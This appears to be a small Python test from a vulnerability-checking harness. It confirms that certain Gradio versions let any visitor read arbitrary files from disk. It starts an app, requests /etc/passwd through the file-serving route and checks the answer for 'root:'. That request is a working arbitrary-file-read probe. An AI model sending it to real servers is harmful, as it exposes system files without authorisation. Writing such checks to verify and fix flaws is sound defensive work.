"""A visitor downloads a file from anywhere on the disk."""

from proving import Example, NotApplicable, Seen

GRADIO = ("5.9.1", "5.10.0")


def observe(app: Example) -> Seen:
    if app.gradio < (4,):
        raise NotApplicable("gr.set_static_paths does not exist in this version")
    route = "gradio_api/file=" if app.gradio >= (5,) else "file="
    with app.running() as server:
        answer = server.get(f"{route}/etc/passwd")
    leaked = "root:" in answer.text
    shown = "the file" if leaked else "no file"
    return Seen(leaked, f"asking for /etc/passwd answers {answer.status_code} and {shown}")
